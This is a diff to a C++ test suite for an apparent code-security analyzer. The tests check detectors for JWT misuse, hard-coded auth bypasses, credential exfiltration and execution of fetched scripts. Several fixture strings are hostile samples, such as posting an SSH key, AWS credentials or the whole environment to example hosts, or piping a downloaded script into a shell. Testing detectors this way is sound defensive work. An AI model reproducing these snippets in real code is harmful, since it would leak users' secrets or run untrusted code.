@@ -6,16 +6,12 @@
 
 using namespace toolwall;
 using code::test::detectors_of;
+using code::test::check_detector;
 using code::test::has_detector;
 using code::test::shipped_analyzer;
 
 namespace {
 
-void check(const char* path, const std::string& code, const char* detector, bool should_match) {
-  auto facts = shipped_analyzer()->analyze_write(path, code);
-  INFO(path << ":\n" << code << "\nfound: " << detectors_of(facts));
-  CHECK(has_detector(facts, detector) == should_match);
-}
 
 bool has_flow(const Facts& facts, const std::string& from, const std::string& to) {
   for (const auto& f : facts.flows)
@@ -26,115 +22,115 @@ bool has_flow(const Facts& facts, const std::string& from, const std::string& to
 }  // namespace
 
 TEST_CASE("a JWT allow-list named by a variable is judged by the literals assigned to it") {
-  check("a.py", "import jwt\nACCEPTED = ['RS256', 'HS256']\ndef v(t, k):\n    return jwt.decode(t, k, algorithms=ACCEPTED)\n",
+  check_detector("a.py", "import jwt\nACCEPTED = ['RS256', 'HS256']\ndef v(t, k):\n    return jwt.decode(t, k, algorithms=ACCEPTED)\n",
         "code.jwt.alg-confusion", true);
-  check("a.js", "const allowed = ['ES256', 'HS512'];\nmodule.exports = (t, k) => jwt.verify(t, k, { algorithms: allowed });\n",
+  check_detector("a.js", "const allowed = ['ES256', 'HS512'];\nmodule.exports = (t, k) => jwt.verify(t, k, { algorithms: allowed });\n",
         "code.jwt.alg-confusion", true);
-  check("a.go",
+  check_detector("a.go",
         "package a\nfunc P(s string) (*jwt.Token, error) {\n\tmethods := []string{\"RS256\", \"HS256\"}\n"
         "\treturn jwt.Parse(s, kf, jwt.WithValidMethods(methods))\n}\n",
         "code.jwt.alg-confusion", true);
-  check("a.py", "ALGS = ['HS256', 'none']\nclaims = jwt.decode(t, k, algorithms=ALGS)\n", "code.jwt.none-alg", true);
-  check("settings.py", "SIMPLE_JWT = {\"ALGORITHMS\": [\"RS256\", \"HS256\"]}\n", "code.jwt.alg-confusion", true);
+  check_detector("a.py", "ALGS = ['HS256', 'none']\nclaims = jwt.decode(t, k, algorithms=ALGS)\n", "code.jwt.none-alg", true);
+  check_detector("settings.py", "SIMPLE_JWT = {\"ALGORITHMS\": [\"RS256\", \"HS256\"]}\n", "code.jwt.alg-confusion", true);
   // one family, or a name assigned nothing in the file
-  check("a.py", "ACCEPTED = ['RS256', 'ES256']\nclaims = jwt.decode(t, k, algorithms=ACCEPTED)\n",
+  check_detector("a.py", "ACCEPTED = ['RS256', 'ES256']\nclaims = jwt.decode(t, k, algorithms=ACCEPTED)\n",
         "code.jwt.alg-confusion", false);
-  check("a.py", "from settings import ALGS\nclaims = jwt.decode(t, k, algorithms=ALGS)\n", "code.jwt.alg-confusion",
+  check_detector("a.py", "from settings import ALGS\nclaims = jwt.decode(t, k, algorithms=ALGS)\n", "code.jwt.alg-confusion",
         false);
-  check("a.js", "const allowed = ['HS256', 'HS512'];\njwt.verify(t, k, { algorithms: allowed });\n",
+  check_detector("a.js", "const allowed = ['HS256', 'HS512'];\njwt.verify(t, k, { algorithms: allowed });\n",
         "code.jwt.alg-confusion", false);
 }
 
 TEST_CASE("an algorithm read from the token's own header is algorithm confusion unless it is checked first") {
-  check("a.py",
+  check_detector("a.py",
         "def v(token, key):\n    header = jwt.get_unverified_header(token)\n"
         "    return jwt.decode(token, key, algorithms=[header['alg']])\n",
         "code.jwt.alg-from-token", true);
-  check("a.ts",
+  check_detector("a.ts",
         "export async function v(t: string, k: Uint8Array) {\n  const { alg } = decodeProtectedHeader(t);\n"
         "  return jwtVerify(t, k, { algorithms: [alg as string] });\n}\n",
         "code.jwt.alg-from-token", true);
-  check("a.py",
+  check_detector("a.py",
         "def v(token, key):\n    alg = jwt.get_unverified_header(token)['alg']\n"
         "    if alg not in ALLOWED_ALGORITHMS:\n        raise ValueError(alg)\n"
         "    return jwt.decode(token, key, algorithms=[alg])\n",
         "code.jwt.alg-from-token", false);
-  check("a.py", "def v(token, jwk):\n    return jwt.decode(token, key, algorithms=[jwk['alg']])\n",
+  check_detector("a.py", "def v(token, jwk):\n    return jwt.decode(token, key, algorithms=[jwk['alg']])\n",
         "code.jwt.alg-from-token", false);
 }
 
 TEST_CASE("verify_signature=False given as a keyword (options=dict(...)) turns verification off") {
-  check("a.py", "claims = jwt.decode(t, algorithms=['HS256'], options=dict(verify_signature=False))\n",
+  check_detector("a.py", "claims = jwt.decode(t, algorithms=['HS256'], options=dict(verify_signature=False))\n",
         "code.jwt.verify-off", true);
-  check("a.py", "claims = jwt.decode(t, k, algorithms=['HS256'], options=dict(verify_signature=True))\n",
+  check_detector("a.py", "claims = jwt.decode(t, k, algorithms=['HS256'], options=dict(verify_signature=True))\n",
         "code.jwt.verify-off", false);
 }
 
 TEST_CASE("a file opened by a with-statement carries its path to what is read from it") {
-  check("a.py",
+  check_detector("a.py",
         "def sync():\n    with open(os.path.expanduser('~/.ssh/id_ed25519')) as f:\n        key = f.read()\n"
         "    httpx.post('https://k.example.net/u', content=key)\n",
         "code.exfil.credential-to-network", true);
-  check("a.py",
+  check_detector("a.py",
         "def sync():\n    with open('report.csv') as f:\n        data = f.read()\n"
         "    httpx.post('https://k.example.net/u', content=data)\n",
         "code.exfil.credential-to-network", false);
 }
 
 TEST_CASE("a master-password constant or an API-key header compared in an auth function is a bypass") {
-  check("a.py",
+  check_detector("a.py",
         "MASTER_PASSWORD = 'Sup3rS3cret!'\ndef login(user, password):\n    if password == MASTER_PASSWORD:\n"
-        "        return True\n    return check(user, password)\n",
+        "        return True\n    return check_detector(user, password)\n",
         "code.auth.magic-value-bypass", true);
-  check("a.go",
+  check_detector("a.go",
         "package a\nfunc RequireAuth(next http.Handler) http.Handler {\n\treturn http.HandlerFunc(func(w "
         "http.ResponseWriter, r *http.Request) {\n\t\tif r.Header.Get(\"X-Api-Key\") == \"m4ster-k3y-001\" {\n"
         "\t\t\tnext.ServeHTTP(w, r)\n\t\t}\n\t})\n}\n",
         "code.auth.magic-value-bypass", true);
   // a constant read from the environment, or a settings attribute, is configuration
-  check("a.py",
+  check_detector("a.py",
         "MASTER_PASSWORD = os.environ['MASTER_PASSWORD']\ndef login(user, password):\n"
         "    if password == MASTER_PASSWORD:\n        return True\n",
         "code.auth.magic-value-bypass", false);
-  check("a.py", "def login(user, password):\n    return password == settings.ADMIN_PASSWORD\n",
+  check_detector("a.py", "def login(user, password):\n    return password == settings.ADMIN_PASSWORD\n",
         "code.auth.magic-value-bypass", false);
 }
 
 TEST_CASE("fetched content fed to a shell or evaluated in a response callback is executed") {
-  check("a.go",
+  check_detector("a.go",
         "package main\nfunc main() {\n\tresp, _ := http.Get(\"https://u.example.com/u.sh\")\n\tcmd := exec.Command(\"sh\")\n"
         "\tcmd.Stdin = resp.Body\n\tcmd.Run()\n}\n",
         "code.exec.fetched-code", true);
-  check("a.js",
+  check_detector("a.js",
         "https.get(u, (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => "
         "eval(body));\n});\n",
         "code.exec.fetched-code", true);
-  check("a.py", "def f(u):\n    s = requests.get(u).text\n    subprocess.run(['bash', '-s'], input=s, text=True)\n",
+  check_detector("a.py", "def f(u):\n    s = requests.get(u).text\n    subprocess.run(['bash', '-s'], input=s, text=True)\n",
         "code.exec.fetched-code", true);
   // a named program that is not an interpreter takes fetched data as input or arguments
-  check("a.go",
+  check_detector("a.go",
         "package main\nfunc main() {\n\tresp, _ := http.Get(u)\n\tcmd := exec.Command(\"jq\", \".\")\n"
         "\tcmd.Stdin = resp.Body\n\tcmd.Run()\n}\n",
         "code.exec.fetched-code", false);
-  check("a.py",
+  check_detector("a.py",
         "def clone(api):\n    repo = requests.get(api).json()\n    subprocess.run(['git', 'clone', repo['clone_url']])\n",
         "code.exec.fetched-code", false);
-  check("a.go",
+  check_detector("a.go",
         "package x\nfunc f() {\n\tresp, _ := http.Get(u)\n\tb, _ := io.ReadAll(resp.Body)\n"
         "\texec.Command(\"git\", \"checkout\", string(b)).Run()\n}\n",
         "code.exec.fetched-code", false);
 }
 
 TEST_CASE("a script downloaded to disk and then run by the same code is run fetched content") {
-  check("a.py",
+  check_detector("a.py",
         "def go():\n    urllib.request.urlretrieve('https://x.example.com/t.py', '/tmp/t.py')\n"
         "    subprocess.run(['python3', '/tmp/t.py'])\n",
         "code.exec.downloaded-file-run", true);
-  check("setup.py",
+  check_detector("setup.py",
         "urllib.request.urlretrieve('https://x.example.com/i.sh', '/tmp/i.sh')\nos.system('sh /tmp/i.sh')\n"
         "setup(name='p')\n",
         "code.exec.downloaded-file-run", true);
-  check("a.py",
+  check_detector("a.py",
         "def data():\n    urllib.request.urlretrieve(DATA_URL, 'data.zip')\n    subprocess.run(['unzip', 'data.zip'])\n",
         "code.exec.downloaded-file-run", false);
 }
@@ -158,30 +154,30 @@ TEST_CASE("a CI secret inside single quotes or all secrets as JSON still reach t
 }
 
 TEST_CASE("a magic value whose branch refuses is a validation, one whose branch grants is a bypass") {
-  check("a.py",
+  check_detector("a.py",
         "def validate_username(username):\n    if username == 'admin':\n        raise ValueError('reserved')\n"
         "    return username\n",
         "code.auth.magic-value-bypass", false);
-  check("a.go",
+  check_detector("a.go",
         "package a\nfunc Authenticate(user, password string) error {\n\tif password == \"revoked-2023\" {\n"
-        "\t\treturn errors.New(\"revoked\")\n\t}\n\treturn check(user, password)\n}\n",
+        "\t\treturn errors.New(\"revoked\")\n\t}\n\treturn check_detector(user, password)\n}\n",
         "code.auth.magic-value-bypass", false);
-  check("a.go",
+  check_detector("a.go",
         "package a\nfunc Authenticate(user, password string) error {\n\tif password == \"letmein-2024\" {\n"
-        "\t\treturn nil\n\t}\n\treturn check(user, password)\n}\n",
+        "\t\treturn nil\n\t}\n\treturn check_detector(user, password)\n}\n",
         "code.auth.magic-value-bypass", true);
-  check("a.py", "def check_login(user, password):\n    if password != 'hunter2-x1':\n        return False\n    return True\n",
+  check_detector("a.py", "def check_login(user, password):\n    if password != 'hunter2-x1':\n        return False\n    return True\n",
         "code.auth.magic-value-bypass", true);
-  check("a.py", "def authenticate(user, password):\n    return password == 'letmein-2024' or check(user, password)\n",
+  check_detector("a.py", "def authenticate(user, password):\n    return password == 'letmein-2024' or check_detector(user, password)\n",
         "code.auth.magic-value-bypass", true);
 }
 
 TEST_CASE("a download only counts as run when the command names the downloaded path") {
-  check("a.py",
+  check_detector("a.py",
         "def update():\n    r = requests.get(URL)\n    with open('/tmp/u.bin', 'wb') as f:\n        f.write(r.content)\n"
         "    subprocess.run(['/tmp/u.bin'])\n",
         "code.exec.downloaded-file-run", true);
-  check("a.py",
+  check_detector("a.py",
         "def train():\n    urllib.request.urlretrieve(MODEL_URL, '/tmp/model.bin')\n"
         "    subprocess.run(['python3', 'train.py', '--epochs', '3'])\n",
         "code.exec.downloaded-file-run", false);
@@ -206,60 +202,60 @@ TEST_CASE("a Dockerfile RUN that runs what an earlier ADD <url> or RUN downloade
 }
 
 TEST_CASE("a bypass inside a decorator's inner function is judged by the decorator's name") {
-  check("a.py",
+  check_detector("a.py",
         "def require_token(f):\n    def inner(*a, **kw):\n        if request.headers.get('X-Token') == 'svc-bypass-9931':\n"
         "            return f(*a, **kw)\n        return deny()\n    return inner\n",
         "code.auth.magic-value-bypass", true);
-  check("a.py",
+  check_detector("a.py",
         "def render_page(f):\n    def inner(*a, **kw):\n        if request.headers.get('X-Token') == 'svc-bypass-9931':\n"
         "            return f(*a, **kw)\n    return inner\n",
         "code.auth.magic-value-bypass", false);
 }
 
 TEST_CASE("a database URL with a real-looking password is a hard-coded credential; defaults and templates are not") {
-  check("a.py", "DATABASE_URL = 'postgresql://app:Xk9pL2mQ7vR4tZ8w@db.prod.internal:5432/app'\n",
+  check_detector("a.py", "DATABASE_URL = 'postgresql://app:Xk9pL2mQ7vR4tZ8w@db.prod.internal:5432/app'\n",
         "code.secret.known-key-shape", true);
-  check("c.yaml", "db:\n  url: mongodb+srv://svc:Qz7Lm2Xp9Rk4@cluster0.mongodb.net/app\n", "code.secret.known-key-shape",
+  check_detector("c.yaml", "db:\n  url: mongodb+srv://svc:Qz7Lm2Xp9Rk4@cluster0.mongodb.net/app\n", "code.secret.known-key-shape",
         true);
-  check("a.py", "DEV_URL = 'postgres://postgres:postgres@localhost:5432/app'\n", "code.secret.known-key-shape", false);
-  check("a.py", "URL = f'postgres://app:{password}@db:5432/app'\n", "code.secret.known-key-shape", false);
-  check("a.js", "const u = `mysql://app:${process.env.DB_PASSWORD}@db/app`;\n", "code.secret.known-key-shape", false);
+  check_detector("a.py", "DEV_URL = 'postgres://postgres:postgres@localhost:5432/app'\n", "code.secret.known-key-shape", false);
+  check_detector("a.py", "URL = f'postgres://app:{password}@db:5432/app'\n", "code.secret.known-key-shape", false);
+  check_detector("a.js", "const u = `mysql://app:${process.env.DB_PASSWORD}@db/app`;\n", "code.secret.known-key-shape", false);
 }
 
 TEST_CASE("replacing the default HTTPS context with the unverified one turns TLS verification off") {
-  check("a.py", "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n", "code.tls.verify-off",
+  check_detector("a.py", "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n", "code.tls.verify-off",
         true);
-  check("a.py", "import ssl\nssl._create_default_https_context = ssl.create_default_context\n", "code.tls.verify-off",
+  check_detector("a.py", "import ssl\nssl._create_default_https_context = ssl.create_default_context\n", "code.tls.verify-off",
         false);
 }
 
 TEST_CASE("every registered algorithm, however wrapped, and jwx WithVerify(false) are JWT verification failures") {
-  check("a.py", "claims = jwt.decode(t, k, algorithms=list(jwt.algorithms.get_default_algorithms()))\n",
+  check_detector("a.py", "claims = jwt.decode(t, k, algorithms=list(jwt.algorithms.get_default_algorithms()))\n",
         "code.jwt.alg-confusion", true);
-  check("a.py", "algs = list(jwt.algorithms.get_default_algorithms())\nprint(algs)\n", "code.jwt.alg-confusion", false);
-  check("a.go", "package a\nfunc s(b []byte) { t, _ := jwt.Parse(b, jwt.WithVerify(false)); use(t) }\n",
+  check_detector("a.py", "algs = list(jwt.algorithms.get_default_algorithms())\nprint(algs)\n", "code.jwt.alg-confusion", false);
+  check_detector("a.go", "package a\nfunc s(b []byte) { t, _ := jwt.Parse(b, jwt.WithVerify(false)); use(t) }\n",
         "code.jwt.verify-off", true);
-  check("a.go", "package a\nfunc s(b []byte) { t, _ := jwt.Parse(b, jwt.WithVerify(true), jwt.WithKey(jwa.RS256, k)); use(t) }\n",
+  check_detector("a.go", "package a\nfunc s(b []byte) { t, _ := jwt.Parse(b, jwt.WithVerify(true), jwt.WithKey(jwa.RS256, k)); use(t) }\n",
         "code.jwt.verify-off", false);
 }
 
 TEST_CASE("a component that only renders a token's claims is not an unverified identity decision") {
-  check("src/ui/Badge.tsx",
+  check_detector("src/ui/Badge.tsx",
         "export function TokenBadge({ token }: { token: string }) {\n  const p = JSON.parse(atob(token.split('.')[1]));\n"
         "  return <span>{p.email}</span>;\n}\n",
         "code.jwt.unverified-decode", false);
-  check("src/session.ts",
+  check_detector("src/session.ts",
         "export function getCurrentUser(token: string) {\n  const claims = JSON.parse(atob(token.split('.')[1]));\n"
         "  return { id: claims.sub };\n}\n",
         "code.jwt.unverified-decode", true);
 }
 
 TEST_CASE("Go exec.Command of curl with a credential file argument sends it to the network") {
-  check("a.go",
+  check_detector("a.go",
         "package main\nfunc main() {\n\thome, _ := os.UserHomeDir()\n"
         "\texec.Command(\"curl\", \"-F\", \"f=@\"+home+\"/.aws/credentials\", \"https://x.example.com/u\").Run()\n}\n",
         "code.exfil.credential-to-network", true);
-  check("a.go", "package main\nfunc main() { exec.Command(\"curl\", \"-fsSLo\", \"tool.tgz\", url).Run() }\n",
+  check_detector("a.go", "package main\nfunc main() { exec.Command(\"curl\", \"-fsSLo\", \"tool.tgz\", url).Run() }\n",
         "code.exfil.credential-to-network", false);
 }
 
@@ -283,43 +279,43 @@ TEST_CASE("pre-commit entries, Taskfile cmds and justfile recipes are commands t
 }
 
 TEST_CASE("reading a token's expiry unverified is a client refreshing it, unless the function reads who it names") {
-  check("a.py",
+  check_detector("a.py",
         "def token_expires_soon(token, margin=60):\n"
         "    exp = jwt.decode(token, options={'verify_signature': False})['exp']\n    return exp - time.time() < margin\n",
         "code.jwt.verify-off", false);
-  check("a.py",
+  check_detector("a.py",
         "def refresh_user(token):\n    claims = jwt.decode(token, options={'verify_signature': False})\n"
         "    return User.get(claims['sub'])\n",
         "code.jwt.verify-off", true);
-  check("a.ts",
+  check_detector("a.ts",
         "export function getTokenExpiry(token: string) {\n  const { exp } = jwt.decode(token) as any;\n  return exp * 1000;\n}\n",
         "code.jwt.unverified-decode", false);
-  check("a.ts",
+  check_detector("a.ts",
         "export function refreshSession(req: any, token: string) {\n  const { sub, exp } = jwt.decode(token) as any;\n"
         "  req.userId = sub;\n}\n",
         "code.jwt.unverified-decode", true);
 }
 
 TEST_CASE("an attribute of the authenticated user compared after login is routing, not a bypass") {
-  check("a.py",
+  check_detector("a.py",
         "def login_view(request):\n    user = authenticate(request, username=u, password=p)\n    if user is None:\n"
         "        return deny()\n    if user.username == 'admin':\n        return redirect('/admin/')\n",
         "code.auth.magic-value-bypass", false);
-  check("a.py",
+  check_detector("a.py",
         "def login_view(request):\n    if request.POST['username'] == 'support' and request.POST['password'] == 'S3rv1ce!':\n"
         "        return grant(request)\n",
         "code.auth.magic-value-bypass", true);
 }
 
 TEST_CASE("an HTTP client created or required inline is still a network sink") {
-  check("a.py", "def go():\n    requests.Session().post('https://x.example.com/e', json=dict(os.environ))\n",
+  check_detector("a.py", "def go():\n    requests.Session().post('https://x.example.com/e', json=dict(os.environ))\n",
         "code.exfil.env-to-network", true);
-  check("a.py", "async def go():\n    await httpx.AsyncClient().post('https://x.example.com/e', json=dict(os.environ))\n",
+  check_detector("a.py", "async def go():\n    await httpx.AsyncClient().post('https://x.example.com/e', json=dict(os.environ))\n",
         "code.exfil.env-to-network", true);
-  check("a.js", "module.exports = async () => { await require('axios').post('https://x.example.com/e', process.env); };\n",
+  check_detector("a.js", "module.exports = async () => { await require('axios').post('https://x.example.com/e', process.env); };\n",
         "code.exfil.env-to-network", true);
-  check("a.py", "def go(name):\n    requests.Session().post('https://api.example.com/u', json={'name': name})\n",
+  check_detector("a.py", "def go(name):\n    requests.Session().post('https://api.example.com/u', json={'name': name})\n",
         "code.exfil.env-to-network", false);
-  check("a.js", "module.exports = async (name) => { await require('axios').post('/api/users', { name }); };\n",
+  check_detector("a.js", "module.exports = async (name) => { await require('axios').post('/api/users', { name }); };\n",
         "code.exfil.env-to-network", false);
 }
